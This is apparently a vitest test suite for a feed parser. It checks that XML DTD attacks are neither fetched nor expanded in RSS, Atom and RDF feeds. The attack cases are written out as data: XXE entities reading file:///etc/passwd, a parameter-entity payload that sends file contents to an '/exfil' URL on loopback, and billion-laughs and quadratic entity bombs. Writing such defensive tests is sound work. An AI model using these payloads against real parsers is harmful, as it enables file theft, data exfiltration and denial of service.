// Issue 7, parsing attacks: DTD entities are neither expanded nor fetched, whatever the format.
// External parties are a real HTTP server on loopback that counts every request it gets: after
// parsing, it must have had none. (tests/parse/parse-feed.test.ts covers the basic billion laughs
// and XXE through parseFeed; these go through the whole pipeline and every XML dialect.)

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { isVeilleError } from '../../src/domain/errors.js';
import { runPipeline, type PipelineResult } from './pipeline.js';
import { surfaceViolations } from './surface-check.js';

let server: Server;
let origin = '';
const requests: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'application/xml-dtd' });
    response.end('<!ENTITY leak "LEAKED-FROM-LOOPBACK">');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  // The counter works: a real request is seen.
  await fetch(`${origin}/sanity`).then((r) => r.text());
  expect(requests).toEqual(['/sanity']);
});

beforeEach(() => {
  requests.length = 0;
});

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

/** Lets any request a parser might have started reach the server before counting. */
async function settle(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 50));
}

/** The whole published output of a result, for "never appears anywhere" checks. */
function allOutput(result: PipelineResult): string {
  return [JSON.stringify(result.parsed), ...result.surfaces.map((s) => s.text)].join('\n');
}

const ROOTS = {
  rss: (body: string) => `<rss version="2.0"><channel><title>T ${body}</title><item><title>I ${body}</title><description>D ${body}</description></item></channel></rss>`,
  atom: (body: string) => `<feed xmlns="http://www.w3.org/2005/Atom"><title>T ${body}</title><entry><id>urn:x:1</id><title>I ${body}</title><content type="html">D ${body}</content></entry></feed>`,
  rdf: (body: string) =>
    `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel rdf:about="https://x.example/"><title>T ${body}</title></channel><item rdf:about="https://x.example/1"><title>I ${body}</title><description>D ${body}</description></item></rdf:RDF>`,
} as const;

type Dialect = keyof typeof ROOTS;
const DIALECTS: readonly Dialect[] = ['rss', 'atom', 'rdf'];

interface AttackCase {
  readonly name: string;
  /** The DOCTYPE, given the loopback origin. */
  readonly doctype: (origin: string) => string;
  /** What the document references in its text. */
  readonly reference: string;
}

const ATTACKS: readonly AttackCase[] = [
  {
    name: 'external DTD (DOCTYPE SYSTEM over HTTP)',
    doctype: (o) => `<!DOCTYPE rss SYSTEM "${o}/external.dtd">`,
    reference: '&leak;',
  },
  {
    name: 'external DTD (DOCTYPE PUBLIC over HTTP)',
    doctype: (o) => `<!DOCTYPE rss PUBLIC "-//Evil//DTD Feed//EN" "${o}/public.dtd">`,
    reference: '&leak;',
  },
  {
    name: 'external general entity over HTTP',
    doctype: (o) => `<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "${o}/general"> ]>`,
    reference: '&xxe;',
  },
  {
    name: 'external general entity file:///etc/passwd',
    doctype: () => '<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
    reference: '&xxe;',
  },
  {
    name: 'external parameter entity over HTTP, used in the DTD',
    doctype: (o) => `<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "${o}/parameter.dtd"> %remote; ]>`,
    reference: '&leak;',
  },
  {
    name: 'parameter entity building an exfiltration entity (file then HTTP)',
    doctype: (o) =>
      `<!DOCTYPE rss [ <!ENTITY % file SYSTEM "file:///etc/passwd"> <!ENTITY % build "<!ENTITY &#x25; send SYSTEM '${o}/exfil?%file;'>"> %build; %send; ]>`,
    reference: '&leak;',
  },
  {
    name: 'internal parameter entity declaring a general entity',
    doctype: () => `<!DOCTYPE rss [ <!ENTITY % decl "<!ENTITY inner 'EXPANDED-INNER'>"> %decl; ]>`,
    reference: '&inner;',
  },
  {
    name: 'DOCTYPE with a quoted "]>" and a comment inside the internal subset',
    doctype: (o) => `<!DOCTYPE rss [ <!-- ]> --> <!ENTITY fake "]> <rss>"> <!ENTITY xxe SYSTEM "${o}/tricky"> ]>`,
    reference: '&xxe;&fake;',
  },
];

describe('DTD attacks are neither fetched nor expanded, in every XML dialect', () => {
  const cases = ATTACKS.flatMap((attack) => DIALECTS.map((dialect) => ({ ...attack, dialect, label: `${attack.name} (${dialect})` })));

  it.each(cases)('$label', async ({ doctype, reference, dialect }) => {
    const text = `<?xml version="1.0"?>\n${doctype(origin).replace('DOCTYPE rss', `DOCTYPE ${dialect === 'rdf' ? 'rdf:RDF' : dialect === 'atom' ? 'feed' : 'rss'}`)}\n${ROOTS[dialect](reference)}`;
    const result = await runPipeline(text);
    await settle();
    expect(requests).toEqual([]);
    const output = allOutput(result);
    expect(output).not.toMatch(/LEAKED|EXPANDED-INNER|root:x?:0:0/);
    expect(result.items).toHaveLength(1);
    for (const surface of result.surfaces) expect(surfaceViolations(surface)).toEqual([]);
  });
});

describe('entity expansion bombs', () => {
  const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');

  it.each(DIALECTS)('billion laughs through the whole pipeline (%s): fast, small output', async (dialect) => {
    const text = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${lols}\n]>\n${ROOTS[dialect]('&lol9;')}`;
    const started = performance.now();
    const result = await runPipeline(text);
    expect(performance.now() - started).toBeLessThan(1000);
    expect(result.items[0]?.title).toBe('I &lol9;');
    // Every surface of one item, two reading pages (home and theme, ~10 KB of their own markup each) among them: an
    // expanded bomb would be gigabytes.
    expect(allOutput(result).length).toBeLessThan(40_000);
  });

  it('quadratic blowup (one 100 kB entity referenced 10,000 times) is not expanded', async () => {
    const big = 'x'.repeat(100_000);
    const text = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "${big}">]>${ROOTS.rss('&big;'.repeat(10_000))}`;
    const started = performance.now();
    const result = await runPipeline(text);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(allOutput(result)).not.toContain('x'.repeat(1000));
  });

  it('a second DOCTYPE after the root is an error with a code, not an expansion', async () => {
    const text = `<rss version="2.0"><!DOCTYPE x [<!ENTITY e "EXPANDED-INNER">]><channel><title>&e;</title></channel></rss>`;
    const outcome = await runPipeline(text).then(
      (result) => allOutput(result),
      (error: unknown) => (isVeilleError(error) ? `error ${error.code}` : `crash ${String(error)}`),
    );
    expect(outcome).not.toMatch(/EXPANDED-INNER|^crash/);
    await settle();
    expect(requests).toEqual([]);
  });
});
